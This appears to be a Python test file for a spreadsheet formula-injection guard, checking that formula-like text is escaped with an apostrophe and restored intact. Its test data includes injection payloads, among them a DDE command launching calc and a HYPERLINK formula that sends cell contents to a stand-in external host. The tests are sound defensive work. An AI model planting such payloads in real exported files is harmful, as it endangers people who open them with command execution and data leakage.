"""Texts that a spreadsheet would take for a formula are made plain, and come back as they were."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vetting.exports.guarding import guarded, legible, unguarded

FORMULAS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://elsewhere.example/?"&A1,"click")',
    "＝1+1",
    "－1",
    "＋1",
    "＠SUM(1)",
    "−1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    '"=1+1"',
    "'=1+1",
    "“=1+1”",
)
WITHIN = (
    ("a\n=1+1", "a\n'=1+1"),
    ("a;=1+1;b", "a;'=1+1;b"),
    ('a,"=1+1', "a,'\"=1+1"),
    ("a\t@SUM(1)", "a\t'@SUM(1)"),
    ("a\n'=1", "a\n''=1"),
    ("a, -5 %", "a,' -5 %"),
)
PLAIN = (
    "",
    "Nadia Ruiz",
    "'t Hooft",
    "O'Brien",
    "a = b",
    "1+1=2",
    "nadia@ruiz.example",
    "5-3",
    "Ñandú, pingüino y Zoë",
    "'",
    "''",
)


@pytest.mark.parametrize("text", FORMULAS)
def test_what_begins_as_a_formula_gets_an_apostrophe(text: str) -> None:
    assert guarded(text).startswith("'")
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize(("text", "cell"), WITHIN)
def test_so_does_what_would_begin_a_cell_with_another_separator(text: str, cell: str) -> None:
    assert guarded(text) == cell
    assert unguarded(cell) == text


@pytest.mark.parametrize("text", PLAIN)
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert guarded(text) == unguarded(text) == text


@given(st.text(alphabet=st.sampled_from("=+-@＝−'\"\t\n\r ,;a1\u200b") | st.characters()))
def test_every_text_comes_back(text: str) -> None:
    assert unguarded(guarded(text)) == text


@given(st.text(alphabet="=+-@'\" ,;a\t\n"))
def test_no_cell_by_any_separator_begins_with_a_sign(text: str) -> None:
    for separator in ",;\t\n":
        for cell in guarded(text).split(separator):
            assert not cell.strip(' "').startswith(("=", "+", "-", "@"))


def test_what_no_file_may_hold_is_left_out() -> None:
    assert legible("a\x00b\x1b[31m\r\nc\rd\ud800\ufffe\x85") == "ab[31m\nc\nd"
    assert legible("tab\tand\nline") == "tab\tand\nline"
